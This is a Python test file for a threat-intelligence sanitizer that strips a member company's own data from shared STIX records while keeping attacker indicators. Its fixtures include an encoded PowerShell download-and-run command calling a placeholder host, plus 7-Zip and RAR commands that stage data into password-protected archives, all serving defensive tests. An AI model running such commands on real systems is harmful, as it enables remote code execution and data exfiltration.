"""The attacker's side survives: look-alikes of a member's name, the attacker's staging
archive, its relay's queue id and remote-access ids are indicators, not the member's data."""

from __future__ import annotations

import base64
import json
from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from hub.sanitize import MemberProfile, Policy, sanitize
from hub.sanitize.text import TextRedactor
from tests.hub.sanitize_corpus import HUB, SECRET, SECTOR, T, oid, sid
from tests.hub.test_sanitize_leaks import SETTINGS

ME = sid(7)
PROFILE = MemberProfile(
    member_key="hkd",
    names=("Hakodate Ropeway Energy", "函館索道電力"),
    dns_domains=("hre-energy.co.jp",),
    email_domains=("hre-energy.co.jp",),
)
PARTNER = MemberProfile(
    member_key="ots",
    names=("Otaru Canal Logistics Co., Ltd.", "Otaru Canal", "小樽運河物流"),
    dns_domains=("otaru-canal.co.jp",),
    email_domains=("otaru-canal.co.jp",),
)
SDO = {"spec_version": "2.1", "created": T, "modified": T, "created_by_ref": ME}
MALWARE = {
    **SDO,
    "type": "malware",
    "id": oid("malware", 1),
    "name": "QuietHeron",
    "is_family": True,
}


def run(objects: list[dict[str, Any]]) -> tuple[str, Any]:
    me = {
        **SDO,
        "type": "identity",
        "id": ME,
        "name": "Hakodate Ropeway Energy",
        "identity_class": "organization",
    }
    result = sanitize(
        [me, *objects],
        PROFILE,
        Policy(),
        secret=SECRET,
        hub_identity=HUB,
        sector=SECTOR,
        others=[PARTNER],
    )
    return json.dumps(result.objects, ensure_ascii=False), result


def rules(result: Any) -> dict[str, int]:
    return dict(result.report.counts_by_rule)


def test_a_domain_imitating_another_members_name_is_kept_and_flagged() -> None:
    objects = [
        {
            "type": "domain-name",
            "spec_version": "2.1",
            "id": oid("domain-name", 1),
            "value": "otaru-canal-invoice.com",
        },
        {
            "type": "email-addr",
            "spec_version": "2.1",
            "id": oid("email-addr", 1),
            "value": "seikyu@otaru-canal-invoice.com",
            "display_name": "小樽運河物流 請求係",
        },
        {
            **SDO,
            "type": "indicator",
            "id": oid("indicator", 1),
            "pattern_type": "stix",
            "valid_from": T,
            "name": "Sender imitating Otaru Canal Logistics",
            "pattern": "[email-addr:value = 'seikyu@otaru-canal-invoice.com']",
        },
    ]
    out, result = run(objects)
    assert "otaru-canal-invoice.com" in out
    assert "seikyu@otaru-canal-invoice.com" in out
    # The member's name in prose (the display name, the indicator's name) still goes.
    assert "小樽運河物流" not in out and "Otaru Canal Logistics" not in out
    assert "Sender imitating [REDACTED:member-name]" in out
    assert rules(result)["lookalike-domain"] >= 2


def test_a_members_tenant_on_a_cloud_service_and_internal_names_are_the_members() -> None:
    redactor = TextRedactor(PROFILE.with_others([PARTNER]))
    assert redactor.name_alike("otaru-canal-login.net")
    assert not redactor.name_alike("otaru-canal.sharepoint.com")
    assert not redactor.name_alike("otaru-canal.local")
    assert not redactor.name_alike("otaru-canal.co.jp")
    assert not redactor.name_alike("otaru-canal-report.xlsx")
    out, _ = run(
        [
            {
                "type": "domain-name",
                "spec_version": "2.1",
                "id": oid("domain-name", 2),
                "value": "otaru-canal.sharepoint.com",
            },
        ]
    )
    assert "otaru-canal.sharepoint" not in out


def test_an_archive_staged_in_a_system_folder_is_the_attackers() -> None:
    note = {
        **SDO,
        "type": "note",
        "id": oid("note", 1),
        "object_refs": [MALWARE["id"]],
        "content": "The intruder collected the drawings into C:\\ProgramData\\Cache\\q7731.rar "
        "and exfiltrated them; the finance team's archive hakone_keiri_2025.zip was also "
        "exfiltrated from the file server.",
    }
    out, _ = run([MALWARE, note])
    assert "q7731.rar" in out
    assert "hakone_keiri_2025.zip" not in out


@SETTINGS
@given(number=st.integers(min_value=100_000_000, max_value=999_999_999))
def test_a_remote_access_id_is_kept_and_a_phone_extension_goes(number: int) -> None:
    spaced = f"1 {str(number)[:3]} {str(number)[3:6]} {str(number)[6:]}"
    tool = {
        **SDO,
        "type": "tool",
        "id": oid("tool", 1),
        "name": "AnyDesk",
        "description": f"Connected from the attacker's AnyDesk ID {spaced}.",
    }
    note = {
        **SDO,
        "type": "note",
        "id": oid("note", 2),
        "object_refs": [MALWARE["id"]],
        "content": f"Call the desk, 内線 {number % 10000:04d} or ext. {number % 1000:03d}.",
    }
    out, _ = run([MALWARE, tool, note])
    assert spaced in out
    assert f"内線 {number % 10000:04d}" not in out
    assert f"ext. {number % 1000:03d}" not in out


def test_an_encoded_powershell_command_is_redacted_inside_and_still_decodes() -> None:
    script = "IEX (iwr 'https://cdn.grey-plover.net/s.ps1'); dir \\\\hkd-fs-srv09\\keiri$\\2025"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    profile = MemberProfile(
        member_key="hkd", names=PROFILE.names, hostname_patterns=("hkd-*-srv[0-9][0-9]",)
    )
    proc = {
        "type": "process",
        "spec_version": "2.1",
        "id": oid("process", 1),
        "command_line": f"powershell.exe -NoP -enc {encoded}",
    }
    me = {
        **SDO,
        "type": "identity",
        "id": ME,
        "name": "Hakodate Ropeway Energy",
        "identity_class": "organization",
    }
    result = sanitize([me, proc], profile, Policy(), secret=SECRET, hub_identity=HUB, sector=SECTOR)
    line = next(o["command_line"] for o in result.objects if o["type"] == "process")
    decoded = base64.b64decode(line.rsplit(" ", 1)[1]).decode("utf-16-le")
    assert "hkd-fs-srv09" not in decoded and "keiri$" not in decoded
    assert "https://cdn.grey-plover.net/s.ps1" in decoded
    assert line.startswith("powershell.exe -NoP -enc ")


def test_an_archivers_glued_password_and_an_iis_pool_name_go_the_attackers_paths_stay() -> None:
    lines = [
        '"C:\\Program Files\\7-Zip\\7z.exe" a -pHkdRope2025 -mhe=on C:\\Windows\\Temp\\c.7z',
        "rar.exe a -hpRopeway88 C:\\ProgramData\\q.rar",
        'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "HakodateOrderPool" -v "v4.0"',
    ]
    procs = [
        {
            "type": "process",
            "spec_version": "2.1",
            "id": oid("process", 10 + i),
            "command_line": line,
        }
        for i, line in enumerate(lines)
    ]
    out, _ = run(procs)
    for secret in ("HkdRope2025", "Ropeway88", "HakodateOrderPool"):
        assert secret not in out
    assert "C:\\\\Windows\\\\Temp\\\\c.7z" in out and "C:\\\\ProgramData\\\\q.rar" in out
    assert '-ap \\"[REDACTED:term]\\"' in out


def test_an_address_in_japanese_running_text_is_found_without_spaces() -> None:
    redactor = TextRedactor(PROFILE.with_others([PARTNER]))
    text = "小樽運河物流様のk.haneda@otaru-canal.co.jpに照会中。送信元はsupport@otaru-canal-invoice.comで"
    new, _ = redactor.redact(text)
    assert "k.haneda" not in new and "[REDACTED:email]に照会中" in new
    assert "support@otaru-canal-invoice.com" in new
